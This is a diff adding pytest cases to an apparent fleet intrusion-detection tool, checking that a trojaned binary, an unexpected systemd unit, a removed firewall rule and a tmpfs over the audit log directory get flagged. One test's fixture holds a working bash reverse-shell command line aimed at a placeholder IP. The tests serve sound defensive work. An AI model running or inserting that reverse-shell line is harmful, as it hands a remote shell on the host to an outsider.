@@ -116,6 +116,33 @@ def test_small_fleets_flag_exactly_the_compromised_host(tmp_path, size):
     assert doc["confidence"]["hosts"] == size
 
 
+def _binary(path, digest, size="1"):
+    return {"path": path, "size": size, "mode": "0755", "uid": "0", "gid": "0", "sha256": digest * 64}
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+def test_a_trojaned_binary_on_one_of_four_hosts_flags_it_beside_an_upgrade(tmp_path, method):
+    """Every host has /bin/ls: its entry is never seen absent, so a second value on one of four
+    hosts is as sick as a new account (PeerPressure's cardinality counts the values seen). Two
+    hosts upgraded openssl (package and binary together) are a population, not novelty. (A trojan
+    that kept the size is judged by the hash column alone, as one of the values a one-per-host
+    thing takes, and stays below the bar at 4 hosts: docs/analysis.md, limits.)"""
+    hosts = clean_fleet(4)
+    for host in hosts.values():
+        host["system_binaries"] += [_binary("/bin/ls", "a"), _binary("/usr/bin/openssl", "c")]
+    base = copy.deepcopy(hosts["web-001"])
+    for name in ("web-002", "web-003"):
+        hosts[name]["deb_packages"][0]["version"] = "3.0.13-1"
+        hosts[name]["system_binaries"][-1] = _binary("/usr/bin/openssl", "b")
+    hosts["web-003"]["system_binaries"][-2] = _binary("/bin/ls", "d", size="2")  # trojaned, no package change
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == ["web-003"]
+    trojaned = next(h for h in analysis.hosts if h.host == "web-003")
+    assert trojaned.findings[0].row["path"] == "/bin/ls"
+
+
 def test_three_hosts_are_not_enough_and_say_so(tmp_path):
     analysis = analyze([build_run(tmp_path, clean_fleet(3))])
     assert analysis.confidence.level == "insufficient"
@@ -329,6 +356,153 @@ def test_one_unit_caught_starting_is_not_a_change_but_an_agent_stopped_is(tmp_pa
     assert _flagged(analysis) == ["web-005"]
     caught = next(h for h in analysis.hosts if h.host == "web-002")
     assert any("transitional" in f.explanation for f in caught.findings)
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+def test_one_unit_caught_starting_on_several_hosts_is_not_a_campaign(tmp_path, method):
+    """A daily timer's unit caught ``activating`` on 3 of 20 hosts: in peers mode those hosts share a
+    row the rest lack (an *added* row whose usual value, same key, is ``inactive``): the same unit
+    between two states, not a unit they gained. A new unit caught starting stays evidence."""
+    hosts = clean_fleet(20)
+    for host in hosts.values():
+        host["systemd_units"].append(_unit("apt-daily.service"))
+    base = copy.deepcopy(hosts["web-001"])
+    for name in ("web-004", "web-011", "web-017"):
+        hosts[name]["systemd_units"][-1] = _unit("apt-daily.service", "activating", "start")
+    new_unit = dict(
+        _unit("sys-update.service", "activating", "start"),
+        fragment_path="/etc/systemd/system/sys-update.service",
+    )
+    hosts["web-008"]["systemd_units"].append(new_unit)
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == ["web-008"]
+    caught = next(h for h in analysis.hosts if h.host == "web-011")
+    assert any("transitional" in f.explanation for f in caught.findings)
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+def test_a_reverse_shell_process_flags_its_host_alone_a_health_check_does_not(tmp_path, method):
+    """Processes are activity and a new one alone never decides, except one that is an attacker's by
+    what it is: a shell wired to a remote socket (T1059.004). A container health check probing
+    loopback through /dev/tcp is a new process too, and stays context."""
+    hosts = clean_fleet(20)
+    for rows in hosts.values():
+        rows["processes"] = [
+            {"name": "cron", "path": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f", "uid": "0"}
+        ]
+    base = copy.deepcopy(hosts["web-001"])
+    hosts["web-006"]["processes"].append(
+        {
+            "name": "bash",
+            "path": "/usr/bin/bash",
+            "cmdline": "bash -c bash -i >& /dev/tcp/198.51.100.7/5555 0>&1",
+            "uid": "1001",
+        }
+    )
+    hosts["web-013"]["processes"].append(
+        {
+            "name": "bash",
+            "path": "/usr/bin/bash",
+            "cmdline": "timeout 1 bash -c </dev/tcp/127.0.0.1/5432",
+            "uid": "999",
+        }
+    )
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == ["web-006"]
+    shell = next(h for h in analysis.hosts if h.host == "web-006")
+    assert "/dev/tcp/198.51.100.7/5555" in shell.findings[0].explanation
+
+
+def _ssm_user(host):
+    host["users"].append(
+        {
+            "uid": "1002",
+            "gid": "1002",
+            "username": "ssm-user",
+            "description": "",
+            "directory": "/home/ssm-user",
+            "shell": "/bin/sh",
+        }
+    )
+    host.setdefault("sudoers", []).append(
+        {
+            "source": "/etc/sudoers.d/ssm-agent-users",
+            "header": "ssm-user",
+            "rule_details": "ALL=(ALL) NOPASSWD:ALL",
+        }
+    )
+
+
+def test_hosts_lacking_what_most_hold_are_no_campaign_unless_a_defence_is_missing(tmp_path):
+    """An agent's account created on first use on 4 of 6 hosts: the 2 without it share an absence,
+    which is what they have not been given yet. Two hosts whose firewall DROP rule is gone share an
+    absence too, and that one is a defence removed."""
+    hosts = clean_fleet(12)
+    for rows in hosts.values():
+        rows["processes"] = [
+            {
+                "name": "amazon-ssm-agent",
+                "path": "/usr/bin/amazon-ssm-agent",
+                "cmdline": "/usr/bin/amazon-ssm-agent",
+                "uid": "0",
+            }
+        ]
+    for name in sorted(hosts)[:8]:
+        _ssm_user(hosts[name])
+    for rows in hosts.values():
+        rows["iptables"].append(dict(rows["iptables"][0], target="ACCEPT", dst_port="22"))
+    for name in ("web-010", "web-011"):
+        del hosts[name]["iptables"][0]
+    analysis = analyze([build_run(tmp_path / "twelve", hosts)])
+    assert _flagged(analysis) == ["web-010", "web-011"]
+    assert [sorted(c.hosts) for c in analysis.campaigns] == [["web-010", "web-011"]]
+    # two instance sizes of 3 hosts, each with one host not yet given the account: each of those
+    # lacks, among its own size's peers, an account and a sudo rule the other two hold
+    six = clean_fleet(6)
+    for i, (name, rows) in enumerate(sorted(six.items())):
+        size = "large" if i >= 3 else "small"
+        rows["deb_packages"].append(dict(rows["deb_packages"][0], name=f"app-{size}", version="1.0"))
+        rows["processes"] = [dict(hosts["web-001"]["processes"][0])]
+        rows["processes"].append(
+            {"name": "app", "path": "/srv/app/bin/app", "cmdline": f"app --size {size}", "uid": "999"}
+        )
+        if name not in ("web-003", "web-006"):
+            _ssm_user(rows)
+    assert _flagged(analyze([build_run(tmp_path / "six", six)])) == []
+
+
+def test_a_snaps_new_revision_mounted_on_one_host_is_a_version_not_a_new_state(tmp_path):
+    """snapd mounts each revision at /snap/<name>/<revision>: one host refreshed first holds a mount
+    no other host has, identical but for the numbers in its names to the one every other host
+    holds. A new mount point that is no revision (a tmpfs over a directory) stays a new state."""
+    hosts = clean_fleet(20)
+    for rows in hosts.values():
+        rows["mounts"] = [
+            {
+                "device": "/dev/loop3",
+                "path": "/snap/amazon-ssm-agent/7628",
+                "type": "squashfs",
+                "flags": "ro,nodev,relatime",
+            },
+            {"device": "/dev/root", "path": "/", "type": "ext4", "flags": "rw,relatime"},
+        ]
+    hosts["web-004"]["mounts"].append(  # snap keeps the previous revision mounted beside the new one
+        {
+            "device": "/dev/loop4",
+            "path": "/snap/amazon-ssm-agent/7993",
+            "type": "squashfs",
+            "flags": "ro,nodev,relatime",
+        }
+    )
+    hosts["web-009"]["mounts"].append(
+        {"device": "tmpfs", "path": "/var/log/audit", "type": "tmpfs", "flags": "rw,relatime"}
+    )
+    analysis = analyze([build_run(tmp_path, hosts)])
+    assert _flagged(analysis) == ["web-009"]
 
 
 @pytest.mark.parametrize("method", ["peers", "baseline"])
